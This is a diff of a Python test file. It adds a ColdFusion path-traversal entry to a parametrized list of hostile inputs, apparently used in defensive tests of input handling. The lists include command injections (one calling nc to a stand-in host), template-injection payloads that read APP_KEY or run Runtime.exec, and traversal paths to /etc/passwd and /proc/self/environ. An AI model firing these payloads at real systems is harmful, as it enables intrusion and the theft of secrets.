@@ -15,7 +15,12 @@ ATTACKS = [";`nc a.example 80`", "&&$(id)", "| `id`", ";wh``oami", "<?=`{${~\"x\
            "{{ env('APP_KEY') /*'*/ }}", "Dear {{ env('APP_KEY') /*)*/ }} user", "{{ dump(app) # '\n}}", "{{ x(\'\'\'a\'b\'\'\') }}",
            "${x['} ${T(java.lang.Runtime).getRuntime().exec('id')}"]  # fmt: skip
 ROUTED = ["/v1/proc/self", "/api/etc/hosts", "/files/etc/passwd/meta"]
-CLIMBING = ["/proc/self/environ", "/etc/passwd", "/v1/x%5c..%5c..%5cetc%5cpasswd"]
+CLIMBING = [
+    "/hax/..CFIDE/wizards/common/utils.cfc",
+    "/proc/self/environ",
+    "/etc/passwd",
+    "/v1/x%5c..%5c..%5cetc%5cpasswd",
+]
 
 
 @pytest.mark.parametrize("value", HONEST)
